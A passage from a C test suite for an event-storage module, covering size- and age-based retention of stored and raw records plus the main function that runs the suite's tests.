    ASSERT_EQ(w.rc, 0);
    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_count(st, &f, &c0), 0);
    ASSERT_EQ(c0, 10000);
    /* Budget: 60% of what is there now. */
    ASSERT_EQ(ap_store_retention_step(st, &ret, T0, &deleted), 0);
    ASSERT_EQ(deleted, 0);
    ASSERT_EQ(ap_store_size(st, &before), 0);
    ASSERT(before > 0);
    ret.max_bytes = before * 6 / 10;
    for (i = 0; i < 2000; i++) {
        ASSERT_EQ(ap_store_retention_step(st, &ret, T0, &deleted), 0);
        if (deleted == 0) {
            ASSERT_EQ(ap_store_size(st, &after), 0);
            if (after <= ret.max_bytes)
                break;
            /* PostgreSQL's live-row statistics lag a commit a little. */
            usleep(200000);
        }
    }
    ASSERT_EQ(ap_store_size(st, &after), 0);
    ASSERT(after <= ret.max_bytes);
    ASSERT_EQ(ap_store_count(st, &f, &c1), 0);
    ASSERT(c1 < c0 && c1 > 0);
    /* The oldest went first. */
    ASSERT_EQ(ap_store_events(st, &f, 1, 0, 1, &evs), 0);
    ASSERT(ap_event_ts_us(json_array_get(evs, 0)) >
           T0 + (c0 - c1) * 100 * HOUR / c0 - 2 * HOUR);
    json_decref(evs);
    ap_store_close(st);
}

TEST(raw_retention)
{
    struct ap_store *st = fx_fresh("t");
    struct ap_store_retention ret = {0, 1, 0, 10};
    struct ap_filter f;
    long long deleted, total = 0;
    json_t *raw;
    int i;

    for (i = 0; i < 30; i++)
        ASSERT_EQ(ap_store_put_raw(st, T0 + (long long)i * HOUR, "c", "x",
                                   "p", 1, "bad"),
                  0);
    do {
        ASSERT_EQ(ap_store_retention_step(st, &ret, T0 + 30 * HOUR, &deleted),
                  0);
        total += deleted;
    } while (deleted > 0);
    ASSERT_EQ(total, 6); /* hours 0..5 are older than 24 h */
    memset(&f, 0, sizeof(f));
    ASSERT_EQ(ap_store_raw(st, NULL, &f, 100, 0, &raw), 0);
    ASSERT_EQ(json_array_size(raw), 24);
    json_decref(raw);
    ap_store_close(st);
}

int
main(void)
{
    ap_log_set_level(AP_LOG_ERROR);
    fx_rng = 88172645463325252ULL; /* this suite's own seed */
    if (fx_init("store") != 0)
        return 1;
    RUN(insert_count_duplicates);
    RUN(every_filter);
    RUN(top_every_dimension);
    RUN(timeseries);
    RUN(profile_sessions_files);
    RUN(hostile_strings_round_trip);
    RUN(raw_payloads);
    RUN(query_plans_use_indexes);
    RUN(retention_by_age_while_inserting);
    RUN(retention_by_size);
    RUN(raw_retention);
    {
        int rc = DONE();
        fx_cleanup();
        return rc;
    }
}
